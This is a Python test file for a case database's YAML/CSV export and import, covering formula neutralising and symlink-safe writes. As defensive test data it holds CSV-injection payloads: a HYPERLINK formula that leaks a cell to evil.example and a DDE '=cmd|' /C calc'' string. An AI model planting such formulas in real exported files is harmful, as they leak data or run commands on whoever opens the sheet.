"""Export and import files: extensions, progress, YAML additions, formulas in cells, and
writing the file safely (the round trip itself: test_export)."""

from __future__ import annotations

import csv
import io
import os
import stat
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from sqlalchemy import Engine
from sqlmodel import Session, col, select

import storage.database.engine
from storage.database.models import Case, CaseName, Hearing, Person, TimelineEvent
from storage.domain.names import name_key
from storage.files.casefile import CaseFileError, parse_case_file
from storage.files.csvfile import COLUMNS, parse_csv
from storage.files.exporter import export_cases, export_file
from storage.files.filesafety import guard_cell, unguard_cell
from storage.files.importer import apply_case_file, import_file
from storage.reads.cases import list_events
from tests.unit.exportdata import TZ, MakeDb, rows

# --------------------------------------------------------------------------- files


@pytest.mark.parametrize("name", ["cases.txt", "cases", "cases.jsonl", "cases.yaml.bak"])
def test_export_refuses_other_extensions(full_db: Engine, tmp_path: Path, name: str) -> None:
    with (
        storage.database.engine.session_scope(full_db) as session,
        pytest.raises(ValueError, match=r"\.yaml, \.yml, \.json or \.csv"),
    ):
        export_file(session, tmp_path / name)
    assert list(tmp_path.glob("cases*")) == []


@pytest.mark.parametrize(
    ("name", "kind"),
    [("c.yml", "yaml"), ("C.YAML", "yaml"), ("c.CSV", "csv"), ("c.json", "json")],
)
def test_extension_chooses_the_format(
    full_db: Engine, make_db: MakeDb, tmp_path: Path, name: str, kind: str
) -> None:
    path = tmp_path / name
    with storage.database.engine.session_scope(full_db) as session:
        report = export_file(session, path)
    assert report.kind == kind and report.path == path
    assert "Exported 5 cases" in report.summary()
    head = path.read_text(encoding="utf-8-sig").splitlines()[0]
    heads = {"yaml": "format: casebot-cases/1", "json": "{", "csv": ",".join(COLUMNS)}
    assert head == heads[kind]
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".partial")] == []
    with storage.database.engine.session_scope(make_db("c.db")) as session:
        assert len(import_file(session, path, default_tz=TZ).added) == 5


def test_import_refuses_other_extensions(make_db: MakeDb, tmp_path: Path) -> None:
    path = tmp_path / "cases.txt"  # a valid case file, but not by its name
    path.write_text(
        "format: casebot-cases/1\ncases: [{slug: x, names: [{lang: en, text: X}]}]\n",
        encoding="utf-8",
    )
    engine = make_db("a.db")
    with (
        pytest.raises(CaseFileError) as caught,
        storage.database.engine.session_scope(engine) as session,
    ):
        import_file(session, path, default_tz=TZ)
    assert ".yaml, .yml, .json or .csv" in caught.value.problems[0]
    assert rows(engine)["cases"] == []


# --------------------------------------------------------------------------- progress


@pytest.mark.parametrize("suffix", [".yaml", ".csv"])
def test_progress_counts_up_to_the_total(
    full_db: Engine, make_db: MakeDb, tmp_path: Path, suffix: str
) -> None:
    path = tmp_path / f"cases{suffix}"
    with storage.database.engine.session_scope(full_db) as session:
        export_file(session, path)
    calls: list[tuple[int, int]] = []
    with storage.database.engine.session_scope(make_db("b.db")) as session:
        import_file(
            session, path, default_tz=TZ, progress=lambda done, total: calls.append((done, total))
        )
    assert calls == [(done, 5) for done in range(1, 6)]


def test_progress_of_a_file_without_cases(make_db: MakeDb, tmp_path: Path) -> None:
    path = tmp_path / "empty.yaml"
    path.write_text("format: casebot-cases/1\n", encoding="utf-8")
    calls: list[tuple[int, int]] = []
    with storage.database.engine.session_scope(make_db("a.db")) as session:
        import_file(session, path, default_tz=TZ, progress=lambda *call: calls.append(call))
    assert calls == [(0, 0)]


# --------------------------------------------------------------------------- YAML additions


def test_yaml_hearing_zone_and_a_sentence_without_term(make_db: MakeDb, tmp_path: Path) -> None:
    path = tmp_path / "zones.yaml"
    path.write_text(
        "format: casebot-cases/1\n"
        "cases:\n"
        "  - slug: z\n"
        "    names: [{lang: en, text: Z}]\n"
        "    sentence: {release: 2025-01-02}\n"
        '    hearings: [{date: 2025-03-04, time: "10:00", tz: Europe/Berlin}]\n',
        encoding="utf-8",
    )
    engine = make_db("a.db")
    with storage.database.engine.session_scope(engine) as session:
        import_file(session, path, default_tz=TZ)
    with storage.database.engine.session_scope(engine) as session:
        hearing = session.exec(select(Hearing)).one()
        assert hearing.tz == "Europe/Berlin"
        assert hearing.starts_at == datetime(2025, 3, 4, 9, 0, tzinfo=UTC)
        case = session.exec(select(Case)).one()
        assert (case.sentence_months, case.release_on) == (None, date(2025, 1, 2))
    with pytest.raises(CaseFileError, match="Mars/Base"):
        parse_case_file(path.read_text(encoding="utf-8").replace("Europe/Berlin", "Mars/Base"))
    with pytest.raises(CaseFileError, match="ratio 'abc'"):
        parse_case_file(
            "format: casebot-cases/1\ncases:\n  - slug: r\n    names: [{lang: en, text: R}]\n"
            "    sentence: {term: 1y, ratio: abc}\n"
        )


# --------------------------------------------------------------------------- formulas

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click me")',
    "+7 701 000 00 00",
    "-5 years",
    "@SUM(A1:A9)",
    "'=already guarded by hand",
    "''two quotes",
    "'Twas a quote, and stays one",
    "'",
]


def add_formula_case(session: Session) -> None:
    """A case whose names and texts a spreadsheet would run as formulas."""
    case = Case(
        slug="formula-case",
        summary={"en": "=1+1 is not a summary"},
        summary_lang="en",
    )
    session.add(case)
    session.flush()
    assert case.id is not None
    for text in [*FORMULAS, "Plain Name"]:
        session.add(CaseName(case_id=case.id, lang="alias", text=text, key=name_key(text)))
    session.add(
        Person(
            case_id=case.id,
            role="organisation",
            name={"en": "=cmd|' /C calc'!A0"},
            note={"ru": "- список, а не формула", "en": "@organizer"},
        )
    )
    session.add(
        TimelineEvent(
            case_id=case.id,
            occurred_on=date(2024, 3, 1),
            precision="day",
            lang="en",
            text={"en": "- a legitimate text starting with a dash"},
            source_title="+ a title",
            source_outlet="@outlet",
        )
    )


def test_guard_cell_is_undone_exactly_by_unguard_cell() -> None:
    samples = [*FORMULAS, "", "plain", "\tTab", "\rCR", "'\t", "'''", "a=b", " =x", "'-", "-"]
    for text in samples:
        guarded = guard_cell(text)
        assert unguard_cell(guarded) == text, text
        assert guarded[:1] not in ("=", "+", "-", "@", "\t", "\r"), text
        if guarded == text:
            assert unguard_cell(text) == text, text
    assert guard_cell("=1+1") == "'=1+1" and guard_cell("'Twas") == "'Twas"
    assert guard_cell("'=1") == "''=1" and unguard_cell("'=1") == "=1"


def test_csv_export_neutralises_formulas_and_round_trips(
    full_db: Engine, make_db: MakeDb, tmp_path: Path
) -> None:
    with storage.database.engine.session_scope(full_db) as session:
        add_formula_case(session)
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
    with storage.database.engine.session_scope(full_db) as session:
        export_file(session, first)
        yaml_text = export_cases(session)
    text = first.read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(" in text and "'-5 years" in text and "''two quotes" in text
    assert "'''=already guarded by hand" not in text and "''=already guarded by hand" in text
    assert ",'Twas a quote, and stays one" not in text  # quoted by csv for its comma
    assert '"\'Twas a quote, and stays one"' in text
    assert "=HYPERLINK(" in yaml_text and "'=HYPERLINK(" not in yaml_text  # YAML as it is
    copy = make_db("copy.db")
    with storage.database.engine.session_scope(copy) as session:
        report = import_file(session, first, default_tz=TZ)
    assert "formula-case" in report.added
    assert rows(copy) == rows(full_db)
    with storage.database.engine.session_scope(copy) as session:
        export_file(session, second)
        assert export_cases(session) == yaml_text
    assert second.read_bytes() == first.read_bytes()


def test_a_hand_written_csv_drops_only_a_guarding_quote(make_db: MakeDb, tmp_path: Path) -> None:
    path = tmp_path / "hand.csv"
    path.write_text(
        "record,case,lang,text\n"
        "case,q,,\n"
        "name,q,en,'=SUM(1)\n"
        "name,q,alias,'Twas\n"
        "name,q,alias,'-dash\n"
        "name,q,alias,''quote\n",
        encoding="utf-8",
    )
    engine = make_db("hand.db")
    with storage.database.engine.session_scope(engine) as session:
        import_file(session, path, default_tz=TZ)
    with storage.database.engine.session_scope(engine) as session:
        names = session.exec(select(CaseName.text).order_by(col(CaseName.id))).all()
    assert names == ["=SUM(1)", "'Twas", "-dash", "'quote"]


# --------------------------------------------------------------------------- writing the file


def test_export_never_writes_through_a_link_at_its_temporary_path(
    full_db: Engine, tmp_path: Path
) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    folder = tmp_path / "exports"
    folder.mkdir()
    for name in ("cases.yaml", "cases.csv"):
        planted = folder / f".{name}.partial"  # where the export used to write first
        planted.symlink_to(victim)
        with storage.database.engine.session_scope(full_db) as session:
            export_file(session, folder / name)
        assert victim.read_text(encoding="utf-8") == "keep me"
        target = folder / name
        assert target.is_file() and not target.is_symlink()
        head = target.read_text(encoding="utf-8-sig").splitlines()[0]
        assert head == ("format: casebot-cases/1" if name.endswith(".yaml") else ",".join(COLUMNS))
        assert planted.is_symlink() and planted.resolve() == victim.resolve()
    assert sorted(p.name for p in folder.iterdir()) == [
        ".cases.csv.partial",
        ".cases.yaml.partial",
        "cases.csv",
        "cases.yaml",
    ]


def test_export_skips_a_temporary_name_someone_planted(
    full_db: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    names = iter(["planted", "fresh"])
    monkeypatch.setattr("storage.files.filesafety.secrets.token_hex", lambda _size: next(names))
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    planted = tmp_path / ".cases.yaml.planted.partial"
    planted.symlink_to(victim)
    with storage.database.engine.session_scope(full_db) as session:
        export_file(session, tmp_path / "cases.yaml")
    assert victim.read_text(encoding="utf-8") == "keep me" and planted.is_symlink()
    assert (tmp_path / "cases.yaml").read_text(encoding="utf-8").startswith("format: ")
    assert not (tmp_path / ".cases.yaml.fresh.partial").exists()


def test_a_failed_export_leaves_no_file_behind(
    full_db: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*_args: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr("storage.files.filesafety.os.replace", refuse)
    with (
        storage.database.engine.session_scope(full_db) as session,
        pytest.raises(OSError, match="disk full"),
    ):
        export_file(session, tmp_path / "cases.yaml")
    assert list(tmp_path.glob("*cases*")) == []


def test_export_files_get_the_usual_permissions(full_db: Engine, tmp_path: Path) -> None:
    previous = os.umask(0o027)
    try:
        with storage.database.engine.session_scope(full_db) as session:
            export_file(session, tmp_path / "cases.csv")
    finally:
        os.umask(previous)
    assert stat.S_IMODE((tmp_path / "cases.csv").stat().st_mode) == 0o640


def test_export_refuses_an_existing_file_unless_told_to_overwrite(
    full_db: Engine, tmp_path: Path
) -> None:
    path = tmp_path / "cases.yaml"
    path.write_text("precious", encoding="utf-8")
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "nowhere")
    with storage.database.engine.session_scope(full_db) as session:
        for existing in (path, dangling):
            with pytest.raises(FileExistsError):
                export_file(session, existing)
        assert path.read_text(encoding="utf-8") == "precious"
        assert not (tmp_path / "nowhere").exists()
        report = export_file(session, path, overwrite=True)
    assert report.cases == 5 and path.read_text(encoding="utf-8").startswith("format: ")


EVENTS_OF_ONE_DAY = """\
format: casebot-cases/1
cases:
  - slug: one-day
    names: [{lang: en, text: One Day, primary: true}]
    sentence: {term: 6m, suspended: unknown}
    timeline:
      - {date: "2020-01-21", lang: en, text: {en: The verdict is read}, order: 2}
      - {date: "2020-01-21", lang: en, text: {en: Supporters gather outside}, order: 1}
      - {date: "2020", lang: en, text: {en: The year opens}}
"""


@pytest.mark.parametrize("suffix", [".yaml", ".csv"])
def test_event_order_and_unknown_suspension_survive_a_round_trip(
    engine: Engine, tmp_path: Path, suffix: str
) -> None:
    with Session(engine) as session:
        apply_case_file(session, parse_case_file(EVENTS_OF_ONE_DAY), default_tz="Asia/Almaty")
        session.commit()
        case_id = session.exec(select(Case.id).where(Case.slug == "one-day")).one()
        assert case_id is not None
        texts = [event.text["en"] for event in list_events(session, case_id=case_id)]
    assert texts == ["The year opens", "Supporters gather outside", "The verdict is read"]
    target = tmp_path / f"out{suffix}"
    with Session(engine) as session:
        export_file(session, target)
    data = (
        parse_csv(target.read_text()) if suffix == ".csv" else parse_case_file(target.read_text())
    )
    [case] = data.cases
    assert case.sentence is not None and case.sentence.suspended is None
    assert {(e.text["en"], e.order) for e in case.timeline} == {
        ("The verdict is read", 2),
        ("Supporters gather outside", 1),
        ("The year opens", 0),
    }
